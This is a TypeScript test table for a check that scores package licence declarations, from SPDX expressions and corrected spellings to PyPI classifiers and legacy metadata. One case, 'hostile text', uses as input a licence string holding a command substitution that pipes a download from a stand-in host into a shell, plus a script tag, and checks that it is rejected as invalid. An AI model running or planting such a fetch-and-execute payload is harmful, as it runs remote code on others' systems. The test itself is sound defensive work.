import check from '../../src/checks/license-declared.js';
import { evidence } from '../support/evidence-builder.js';
import type { PypiLicense } from '../../src/evidence/schema.js';
import { pypiEvidence } from '../support/pypi-evidence.js';
import { checkTable } from './check-table.js';

const declared = (license: string | null, licenseLegacyForm = false) => evidence({ registry: { license, licenseLegacyForm } });
const NO_LICENSE: PypiLicense = { expression: null, classifiers: [], text: null, spdx: null, source: null, files: null };
const pypiLicensed = (license: Partial<PypiLicense>) => pypiEvidence({ pypi: { license: { ...NO_LICENSE, ...license } } });
const MIT_CLASSIFIER = 'License :: OSI Approved :: MIT License';

checkTable(check, [
  { name: 'MIT', evidence: declared('MIT'), score: 100, messageId: 'valid', data: { license: 'MIT', ids: ['MIT'] } },
  {
    name: '(MIT OR Apache-2.0)',
    evidence: declared('(MIT OR Apache-2.0)'),
    score: 100,
    messageId: 'valid',
    data: { ids: ['MIT', 'Apache-2.0'] },
  },
  { name: 'GPL-3.0-only AND MIT', evidence: declared('GPL-3.0-only AND MIT'), score: 100, messageId: 'valid', data: { ids: ['GPL-3.0-only', 'MIT'] } },
  { name: 'WITH exception', evidence: declared('Apache-2.0 WITH LLVM-exception'), score: 100, messageId: 'valid', data: { ids: ['Apache-2.0'] } },
  { name: 'deprecated SPDX id GPL-3.0 still parses', evidence: declared('GPL-3.0'), score: 100, messageId: 'valid' },
  {
    name: 'Apache 2.0 → corrected',
    evidence: declared('Apache 2.0'),
    score: 70,
    messageId: 'corrected',
    data: { license: 'Apache 2.0', corrected: 'Apache-2.0' },
    message: ["'Apache 2.0' is not an SPDX expression; probably Apache-2.0"],
  },
  { name: 'lower-case mit → MIT', evidence: declared('mit'), score: 70, messageId: 'corrected', data: { corrected: 'MIT' } },
  {
    name: 'lower-case expression keeps its ids',
    evidence: declared('gpl-3.0-only or mit'),
    score: 70,
    messageId: 'corrected',
    data: { corrected: 'GPL-3.0-only OR MIT' },
  },
  {
    name: 'SEE LICENSE IN LICENSE.txt',
    evidence: declared('SEE LICENSE IN LICENSE.txt'),
    score: 50,
    messageId: 'see-file',
    data: { file: 'LICENSE.txt' },
    message: ['LICENSE.txt'],
  },
  { name: 'UNLICENSED', evidence: declared('UNLICENSED'), score: 20, messageId: 'unlicensed' },
  { name: 'no licence', evidence: declared(null), score: 0, messageId: 'none', data: { license: null } },
  { name: 'blank licence', evidence: declared('   '), score: 0, messageId: 'none' },
  { name: 'free text', evidence: declared('Public Domain'), score: 30, messageId: 'invalid', data: { tooLong: false } },
  {
    name: 'hostile text',
    evidence: declared('\u001b[2J$(curl evil.test | sh) <script>'),
    score: 30,
    messageId: 'invalid',
  },
  {
    name: 'an enormous expression is not parsed',
    evidence: declared(`${'MIT OR '.repeat(5000)}MIT`),
    score: 30,
    messageId: 'invalid',
    data: { tooLong: true },
  },
  { name: 'legacy object form, valid id: at most 80', evidence: declared('MIT', true), score: 80, messageId: 'legacy', data: { legacyForm: true } },
  {
    name: 'legacy form below the limit keeps its own verdict',
    evidence: declared('Apache 2.0', true),
    score: 70,
    messageId: 'corrected',
    data: { legacyForm: true },
  },
  // PyPI: PEP 639 first; older metadata is a legacy declaration.
  {
    name: 'PyPI: PEP 639 expression',
    evidence: pypiEvidence(),
    score: 100,
    messageId: 'valid',
    data: { license: 'MIT', legacyForm: false, declaredIn: 'license_expression', ids: ['MIT'] },
  },
  {
    name: 'PyPI: MIT from the classifier only: at most 80',
    evidence: pypiLicensed({ classifiers: [MIT_CLASSIFIER], spdx: 'MIT', source: 'classifier' }),
    score: 80,
    messageId: 'legacy-metadata',
    data: { license: 'MIT', legacyForm: true, declaredIn: 'classifier', classifiers: [MIT_CLASSIFIER] },
    message: ['pre-PEP 639 metadata (classifier)'],
  },
  {
    name: 'PyPI: free-text field mapped to Apache-2.0',
    evidence: pypiLicensed({ text: 'Apache License 2.0', spdx: 'Apache-2.0', source: 'text' }),
    score: 80,
    messageId: 'legacy-metadata',
    data: { license: 'Apache-2.0', declaredIn: 'license field' },
  },
  {
    name: 'PyPI: only a free-text licence that maps to nothing',
    evidence: pypiLicensed({ text: 'Copyright (c) Example Corp. All rights reserved.' }),
    score: 30,
    messageId: 'invalid',
    data: { declaredIn: 'license field', legacyForm: true },
  },
  {
    name: 'PyPI: an ambiguous classifier only (BSD License)',
    evidence: pypiLicensed({ classifiers: ['License :: OSI Approved :: BSD License'] }),
    score: 50,
    messageId: 'classifier-only',
    data: { license: null, declaredIn: 'classifier' },
    message: ['BSD License'],
  },
  { name: 'PyPI: nothing declared', evidence: pypiLicensed({}), score: 0, messageId: 'none', data: { license: null, declaredIn: null } },
]);
